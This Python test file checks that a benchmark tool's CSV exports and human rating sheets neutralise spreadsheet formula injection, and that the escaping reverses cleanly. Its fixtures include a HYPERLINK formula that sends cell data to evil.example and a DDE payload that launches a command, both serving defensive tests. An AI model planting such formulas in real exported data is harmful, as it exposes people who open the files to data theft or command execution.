"""What people open in a spreadsheet holds no formula, whatever names, texts and comments say; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from embassay.data.rows import escape_spreadsheet_formula, unescape_spreadsheet_formula
from embassay.interchange import export
from embassay.protocols.kernel.tables import format_csv_rows
from embassay.protocols.pteb.validation.raters import read_rating_file_rows
from embassay.protocols.rag.golden.final_lists import FinalListPassage, QuestionFinalList, write_human_check_file
from embassay.protocols.wordings.pairs import write_rating_table
from hume_small import small_study
from written_runs import write_run

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"ok")'
FORMULAS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1"]


def _cells(text: str, delimiter: str = ",") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=delimiter) for cell in row]


def _computes(cell: str) -> bool:
    """As a spreadsheet decides, numbers and signs alone aside."""
    try:
        float(cell)
    except ValueError:
        return cell.lstrip(" ")[:1] in ("=", "+", "-", "@", "\t", "\r") and len(cell) > 1
    return False


@pytest.mark.parametrize("formula", FORMULAS)
def test_tables_and_exports_of_runs(tmp_path: Path, formula: str) -> None:
    """`export csv`, long and wide: systems may be called anything in published results."""
    run = write_run(
        tmp_path / "run", {formula: [0.1, 0.9], "b": [0.5, 0.4]},
        systems=[{"name": formula, "kind": "embedding"}, {"name": "b", "kind": "embedding"}], cells=[],
    )  # fmt: skip
    export([run], "csv", tmp_path / "out")
    files = list((tmp_path / "out").rglob("*.csv"))
    assert files
    for path in files:
        cells = _cells(path.read_bytes().decode())
        assert f"'{formula}" in cells
        assert not [cell for cell in cells if _computes(cell)]


def test_tables_of_runs() -> None:
    """What every run writes into `tables/`: names are made harmless, negative numbers stay numbers."""
    cells = _cells(format_csv_rows([["system", "value"], [FORMULA, -0.5], ["-0.25", None]]))
    assert cells == ["system", "value", f"'{FORMULA}", "-0.5", "-0.25", ""]


def test_rankings_of_a_stranger(tmp_path: Path) -> None:
    """`rag score` writes a line per query, and queries may be called anything."""
    from typer.testing import CliRunner

    from embassay.cli.main import app

    qrels, run = tmp_path / "qrels.jsonl", tmp_path / "run.jsonl"
    qrels.write_text(json.dumps({"query_id": FORMULA, "doc_id": "d", "grade": 5}) + "\n")
    run.write_text(json.dumps({"query_id": FORMULA, "doc_id": "d", "score": 1.0}) + "\n")
    done = CliRunner().invoke(
        app, ["rag", "score", "--qrels", str(qrels), "--run", str(run), "--out", str(tmp_path / "out")]
    )
    assert done.exit_code == 0, done.output
    cells = _cells((tmp_path / "out" / "tables" / "rag_per_query.csv").read_text("utf-8"))
    assert f"'{FORMULA}" in cells
    assert not [cell for cell in cells if _computes(cell)]


def test_sheets_that_are_sent_to_people(tmp_path: Path) -> None:
    """Texts of datasets in rating sheets and in the check of a golden set; what comes back is read as it was."""
    sheet = tmp_path / "r.csv"
    rows = [
        {"pair_id": str(n), "rater_id": "ann", "text": text, "text2": f"'{text}", "rating": -0.0}
        for n, text in enumerate(FORMULAS[:4])
    ]
    write_rating_table(sheet, rows, columns=("pair_id", "rater_id", "text", "text2", "rating"))
    assert not [cell for cell in _cells(sheet.read_text("utf-8")) if _computes(cell)]
    assert [one.texts for one in read_rating_file_rows(sheet)] == [(text, f"'{text}") for text in FORMULAS[:4]]
    check = tmp_path / "check.csv"
    write_human_check_file(check, [QuestionFinalList(FORMULA, FORMULA, (FinalListPassage(FORMULA, 1, 5, FORMULA),))])
    assert not [cell for cell in _cells(check.read_text("utf-8")) if _computes(cell)]


def test_comments_of_annotators(tmp_path: Path) -> None:
    """The owner of a study opens what strangers wrote; imported again, it says what they wrote."""
    from embassay.protocols.hume.exchange.export import read_csv_answers
    from embassay.protocols.hume.study import AnnotationRow
    from embassay.web.annotation.overview import format_annotations_as_csv

    study = small_study(tmp_path / "study", 2)
    rows = [
        AnnotationRow(item_id="mood-00", annotator_id="ann", value=1, comment=one, flag=one) for one in FORMULAS[:5]
    ]
    text = format_annotations_as_csv(rows)
    assert not [cell for cell in _cells(text) if _computes(cell)]
    (study / "a.csv").write_text(text, "utf-8", newline="")
    assert [one.comment for one in read_csv_answers(study / "a.csv").answers] == FORMULAS[:5]


@given(st.text() | st.sampled_from(FORMULAS).flatmap(lambda one: st.just(f"'{one}")))
def test_the_apostrophe_comes_off(text: str) -> None:
    """Whatever the text."""
    assert unescape_spreadsheet_formula(escape_spreadsheet_formula(text)) == text
    assert not _computes(escape_spreadsheet_formula(text)) or text.startswith(" ")
